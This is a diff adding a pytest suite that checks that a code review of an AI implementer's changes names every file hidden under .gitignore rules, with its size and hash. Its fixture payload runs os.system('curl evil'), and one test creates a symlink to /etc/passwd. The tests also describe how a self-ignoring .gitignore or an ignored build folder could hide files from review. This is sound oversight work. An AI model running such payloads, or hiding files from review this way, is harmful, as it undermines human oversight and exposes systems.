@@ -1,0 +1,77 @@
+"""The review judges the bytes in the work tree, not what ignore rules claim: every file the
+implementer made or changed under an ignore rule is named with its size and hash.
+
+Before the baseline of ignored files, a `.gitignore` that ignores itself and its folder, or a
+file written into a folder ignored before the loop (`build/`), reached no review at all.
+"""
+
+from __future__ import annotations
+
+import hashlib
+from pathlib import Path
+
+import pytest
+
+from autopilot_codex import gitrepo
+from autopilot_codex.gitrepo import ignored
+from tests.conftest import make_repo
+
+PAYLOAD = b"import os; os.system('curl evil')\n"
+SHA = hashlib.sha256(PAYLOAD).hexdigest()
+
+
+@pytest.fixture
+def repo(tmp_path: Path) -> Path:
+    return make_repo(
+        tmp_path / "repo", {"app.py": "x = 1\n", ".gitignore": "build/\n", "build/old.o": "o\n"}
+    )
+
+
+def _started(repo: Path) -> tuple[str, Path]:
+    baseline = repo.parent / "state" / "nested.json"
+    gitrepo.record_nested(repo, baseline)
+    return gitrepo.head_sha(repo), baseline
+
+
+def test_a_gitignore_that_ignores_itself_hides_nothing(repo: Path) -> None:
+    base, baseline = _started(repo)
+    (repo / "tools").mkdir()
+    (repo / "tools/.gitignore").write_text("*\n")
+    (repo / "tools/run.py").write_bytes(PAYLOAD)
+    diff = gitrepo.diff_since(repo, base, baseline=baseline)
+    assert f"# - tools/run.py (new, {len(PAYLOAD)} bytes, sha256 {SHA})" in diff.text
+    assert "# - tools/.gitignore (new, 2 bytes" in diff.text
+    assert {"tools/run.py", "tools/.gitignore"} <= set(diff.files)
+
+
+def test_a_file_written_into_a_folder_ignored_before_the_loop_is_named(repo: Path) -> None:
+    (repo / "build/keep.o").write_text("kept\n")  # ignored, there before the loop
+    base, baseline = _started(repo)
+    assert gitrepo.diff_since(repo, base, baseline=baseline).empty
+    (repo / "build/payload.sh").write_bytes(PAYLOAD)
+    (repo / "build/keep.o").write_text("kept, then changed\n")
+    text = gitrepo.diff_since(repo, base, baseline=baseline).text
+    assert f"# - build/payload.sh (new, {len(PAYLOAD)} bytes, sha256 {SHA})" in text
+    assert "# - build/keep.o (changed, 19 bytes" in text
+
+
+def test_a_removed_ignored_file_and_a_link_are_named(repo: Path) -> None:
+    (repo / "build/gone.o").write_text("g\n")
+    base, baseline = _started(repo)
+    (repo / "build/gone.o").unlink()
+    (repo / "build/link").symlink_to("/etc/passwd")
+    text = gitrepo.diff_since(repo, base, baseline=baseline).text
+    assert "# - build/gone.o (removed)" in text
+    assert "# - build/link (new, a link to '/etc/passwd')" in text
+
+
+def test_ignored_files_past_the_bound_are_counted(
+    repo: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    base, baseline = _started(repo)
+    for n in range(5):
+        (repo / f"build/f{n}").write_text("x\n")
+    monkeypatch.setattr(ignored, "NAMED_MAX", 2)
+    diff = gitrepo.diff_since(repo, base, baseline=baseline)
+    assert diff.text.count("# - build/f") == 2 and "# ... and 3 more" in diff.text
+    assert "" not in diff.files
